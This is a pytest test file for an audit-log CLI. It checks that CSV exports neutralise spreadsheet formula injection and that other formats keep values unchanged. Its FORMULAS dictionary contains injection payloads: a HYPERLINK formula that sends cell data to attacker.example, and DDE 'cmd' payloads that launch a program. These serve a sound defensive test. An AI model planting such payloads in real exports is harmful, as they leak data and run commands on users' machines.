"""Spreadsheet-safe exports (both databases): a caller's auditRecord value that a spreadsheet would
evaluate as a formula comes out of ``mitroo-audit search --format csv`` as text (a leading
apostrophe, OWASP's rule), while NDJSON, JSON and the table show it exactly as stored."""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import subprocess
import sys
import uuid
from pathlib import Path

import pytest
from sqlalchemy import Engine

from audit import events
from db.engine import make_sessionmaker
from tests.conftest import PreparedDatabase

pytestmark = pytest.mark.slow  # each test runs the mitroo-audit CLI in a process

AUDIT = str(Path(sys.executable).with_name("mitroo-audit"))
# One value per character a spreadsheet reads as the start of a formula.
FORMULAS = {
    "=": '=HYPERLINK("http://attacker.example/?leak="&A1,"Λεπτομέρειες")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
HARMLESS = "ΑΠ 17/2026"


def formula_events(engine: Engine) -> str:
    """One event per formula character, the value in every caller-controlled text field it can go
    in, plus one harmless event; their own agency code."""
    agency = f"CSV{uuid.uuid4().hex[:8].upper()}"
    sessions = make_sessionmaker(engine)
    at = dt.datetime(2026, 3, 3, 9, 0, tzinfo=dt.UTC)
    for n, value in enumerate([*FORMULAS.values(), HARMLESS]):
        events.record(sessions, events.Event(
            call_sequence_id=str(uuid.uuid4()), server_time=at + dt.timedelta(seconds=n), service="civilRegistryActs",
            operation="getBirthAct", observed_ip="192.0.2.7", outcome="OK", duration_ms=4, request_digest="c" * 64,
            agency_code=agency, system_code="SYS", username=value, purpose=value,
            declared={"auditProtocol": value, "auditUnit": value, "auditUserId": value,
                      "auditTransactionId": f"{value}-{n}"}))
    return agency


CALLER_FIELDS = ("username", "purpose", "audit_protocol", "audit_unit", "audit_user_id", "audit_transaction_id")


def assert_neutralised(rows: list[dict[str, str]]) -> None:
    expected = [*FORMULAS.values(), HARMLESS]
    assert len(rows) == len(expected)
    for n, (row, value) in enumerate(zip(rows, expected)):
        quote = "" if value == HARMLESS else "'"
        assert {name: row[name] for name in CALLER_FIELDS} == {
            **{name: quote + value for name in CALLER_FIELDS}, "audit_transaction_id": f"{quote}{value}-{n}"}
        for name, cell in row.items():  # no cell of the whole file starts a formula
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)


def search(database: PreparedDatabase, agency: str, output: str) -> str:
    env = {k: v for k, v in os.environ.items() if not k.startswith("MITROO_")}
    env.update(PYTHONUTF8="1", MITROO_DATABASE_URL=database.url)
    result = subprocess.run([AUDIT, "search", "--agency", agency, "--format", output], env=env, capture_output=True,
                            timeout=120)
    assert result.returncode == 0, result.stderr
    return result.stdout.decode("utf-8")


@pytest.fixture(scope="module")
def agency(database: PreparedDatabase) -> str:
    return formula_events(database.engine)


def test_csv_cells_that_would_be_formulas_are_text(database: PreparedDatabase, agency: str) -> None:
    text = search(database, agency, "csv")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert_neutralised(rows)
    assert text.startswith('"id","call_sequence_id","server_time"')  # every cell quoted


@pytest.mark.parametrize("output", ["ndjson", "json", "table"])
def test_ndjson_json_and_the_table_keep_the_values_as_stored(database: PreparedDatabase, agency: str,
                                                            output: str) -> None:
    text = search(database, agency, output)
    if output == "table":
        assert FORMULAS["="] in text and f"'{FORMULAS['=']}" not in text
        return
    rows = [json.loads(line) for line in text.splitlines()] if output == "ndjson" else json.loads(text)
    assert [row["audit_protocol"] for row in rows] == [*FORMULAS.values(), HARMLESS]
    assert [row["username"] for row in rows] == [*FORMULAS.values(), HARMLESS]
